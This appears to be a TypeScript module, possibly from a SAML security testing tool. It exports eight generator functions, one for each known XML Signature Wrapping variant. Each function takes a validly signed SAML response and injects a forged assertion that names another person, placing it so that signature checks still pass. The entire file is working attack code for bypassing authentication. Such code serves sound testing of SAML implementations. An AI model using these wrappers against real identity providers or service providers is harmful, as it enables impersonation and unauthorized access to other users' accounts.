type Change = (xml: string) => string;
/** Takes a signed response, and a change that makes a person another one. Returns a document with the signed part and the other person. */
type Wrap = (signed: string, forge: Change) => string;

const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/;
const EXTENSIONS = '<samlp:Extensions>';

const signatureIn = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? '';
const assertionIn = (xml: string): string => ASSERTION.exec(xml)?.[0] ?? '';
const unsigned: Change = (xml) => xml.replace(SIGNATURE, '');
const renamed: Change = (xml) => xml.replace(/ ID="/, ' ID="_evil');
const withAssertion = (xml: string, assertion: string): string => xml.replace(ASSERTION, () => assertion);
const inSignature = (xml: string, content: string): string =>
  xml.replace('</ds:Signature>', () => `<ds:Object>${content}</ds:Object></ds:Signature>`);
const beforeEnd = (xml: string, end: string, content: string): string => xml.replace(end, () => content + end);

/** The eight known shapes of signature wrapping. */
export const WRAPPED: Readonly<Record<string, Wrap>> = {
  '1, the signed response in the signature of another': (signed, forge) =>
    inSignature(forge(renamed(signed)), unsigned(signed)),
  '2, the signed response in another, before its signature': (signed, forge) =>
    forge(renamed(signed)).replace(SIGNATURE, () => unsigned(signed) + signatureIn(signed)),
  '3, another assertion before the signed one': (signed, forge) =>
    withAssertion(signed, forge(renamed(unsigned(assertionIn(signed)))) + assertionIn(signed)),
  '4, the signed assertion in another': (signed, forge) =>
    withAssertion(
      signed,
      beforeEnd(forge(renamed(unsigned(assertionIn(signed)))), '</saml:Assertion>', assertionIn(signed)),
    ),
  '5, another assertion with the signature, and the signed one without it': (signed, forge) =>
    withAssertion(signed, forge(renamed(assertionIn(signed))) + unsigned(assertionIn(signed))),
  '6, the signed assertion in the signature of another': (signed, forge) =>
    withAssertion(signed, inSignature(forge(renamed(assertionIn(signed))), unsigned(assertionIn(signed)))),
  '7, another assertion in the extensions': (signed, forge) =>
    withAssertion(
      signed,
      `${EXTENSIONS}${forge(unsigned(assertionIn(signed)))}</samlp:Extensions>${assertionIn(signed)}`,
    ),
  '8, the signed assertion in an object of the signature, below another': (signed, forge) => {
    const assertion = assertionIn(signed);
    const object = `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${unsigned(assertion)}</ds:Object>`;
    return withAssertion(
      signed,
      forge(assertion).replace('</ds:SignedInfo>', () => `</ds:SignedInfo>${object}`),
    );
  },
};
